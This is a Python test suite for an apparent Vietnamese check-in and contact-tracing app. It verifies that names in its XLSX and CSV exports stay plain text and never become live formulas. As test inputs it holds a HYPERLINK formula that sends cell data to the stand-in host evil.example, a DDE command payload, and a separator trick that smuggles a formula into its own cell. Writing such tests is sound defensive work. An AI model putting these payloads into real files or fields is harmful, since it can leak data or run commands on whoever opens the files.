"""Names never become live formulas in a spreadsheet (issue 12, item 4).

Before the fix ``=HYPERLINK(...)`` and ``=cmd|...`` names were stored as
formula cells in the province XLSX, the case timeline XLSX and an owner's
visitor export (where an anonymous guest's name ends up), and CSV files
carried them as they were.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import Workbook, load_workbook

from tests.security.export_stage import (
    CSV,
    XLSX,
    build_stage,
    csv_rows,
    every_export,
    rename,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm để xem")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells_with(content: bytes, text: str) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and text in cell.value]


def _files(stage: Any, kind: str) -> dict[str, bytes]:
    return {e.label: e.content for e in every_export(stage) if e.kind == kind}


def test_a_hyperlink_formula_in_a_venue_name_stays_text_in_the_province_workbook(
    personas: Any,
) -> None:
    stage = build_stage(personas, venue_name=HYPERLINK, street=DDE)

    workbooks = _files(stage, XLSX)

    for label in ("report province xlsx", "report district xlsx", "report commune xlsx"):
        for text in (HYPERLINK, DDE):
            [cell] = _cells_with(workbooks[label], text)
            assert cell.value == text  # shown exactly as typed
            assert cell.data_type == "s", label  # a text cell, not a formula ("f")
            assert cell.quotePrefix, label  # and stays text if someone edits it


def test_a_command_formula_in_a_venue_name_stays_text_in_the_case_timeline(
    personas: Any,
) -> None:
    stage = build_stage(personas, venue_name=DDE)

    workbooks = _files(stage, XLSX)

    for label in ("timeline xlsx", "timeline api xlsx"):
        [cell] = _cells_with(workbooks[label], DDE + " 2")
        assert cell.data_type == "s" and cell.quotePrefix


def test_a_guests_formula_name_stays_text_in_the_owners_visitor_export(personas: Any) -> None:
    from truyvet.checkins.services import checkin_guest

    stage = build_stage(personas)
    checkin_guest(venue=stage.visited, full_name='=HYPERLINK("https://evil.example")',
                  phone="0987000111")

    files = every_export(stage)

    [cell] = _cells_with(next(e.content for e in files if e.label == "visitor log xlsx"),
                         "HYPERLINK")
    assert cell.data_type == "s" and cell.quotePrefix
    rows = csv_rows(next(e.content for e in files if e.label == "visitor log csv"))
    assert ["'=HYPERLINK(\"https://evil.example\")"] == [
        cell for row in rows for cell in row if "HYPERLINK" in cell]


def test_no_csv_cell_of_any_export_starts_like_a_formula(personas: Any) -> None:
    stage = build_stage(personas, venue_name=HYPERLINK, person_name="@SUM(1+1) Văn An",
                        street="+84 Tổ 1")
    rename(stage, venue_name=HYPERLINK, person_name="-2+3 Văn An", street="\t=1+1")

    files = [e for e in every_export(stage, import_value="=1+1") if e.kind == CSV]

    risky = [(e.label, cell) for e in files for row in csv_rows(e.content) for cell in row
             if cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)]
    assert risky == []
    inactive = csv_rows(next(e.content for e in files if e.label == "report district csv inactive"))
    [venue] = [row for row in inactive if HYPERLINK in row[1]]
    assert venue[1] == "'" + HYPERLINK  # neutralised, not dropped
    assert venue[4] == "' =1+1"  # the tab of an old value became a space
    assert venue[8] == "'-2+3 Văn An"


def test_a_separator_in_a_name_cannot_start_a_new_cell(personas: Any) -> None:
    """Excel set to Vietnamese splits CSV on ";": a name such as
    "Quán;=cmd|..." must not put its formula in a cell of its own."""
    stage = build_stage(personas, venue_name="Quán;" + DDE)

    files = [e for e in every_export(stage, scopes=("district",)) if e.kind == CSV]

    for export in files:
        text = export.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            assert not any(cell.lstrip().startswith(FORMULA_STARTS) for cell in row), (
                export.label, row)


def test_numbers_stay_typed_and_only_strings_are_neutralised() -> None:
    from truyvet.core.sheets import csv_content, sheet_append

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet_append(sheet, [-5, -2.5, "-5", "@home", "Hà Nội", None])
    saved = io.BytesIO()
    book.save(saved)
    cells = list(load_workbook(saved).active.iter_rows(values_only=False))[0]  # type: ignore[union-attr]  # new book: one sheet

    assert [c.value for c in cells[:5]] == [-5, -2.5, "-5", "@home", "Hà Nội"]
    assert [c.data_type for c in cells[:5]] == ["n", "n", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells[:5]] == [False, False, True, True, False]

    text = csv_content([[-5, -2.5, "-5", "@home", "Hà Nội", None]]).decode("utf-8-sig")
    assert text.strip() == '-5,-2.5,"\'-5","\'@home","Hà Nội",""'


def test_only_core_sheets_writes_csv() -> None:
    """Every CSV export goes through ``core.sheets.csv_content``. The demo
    writes one CSV, an import file it uploads, not an export."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "truyvet"
    allowed = {root / "core" / "sheets.py", root / "site" / "demo.py"}
    writers = [
        str(path.relative_to(root)) for path in root.rglob("*.py")
        if "tests" not in path.parts and path not in allowed
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name) and node.value.id == "csv"
    ]
    assert writers == []
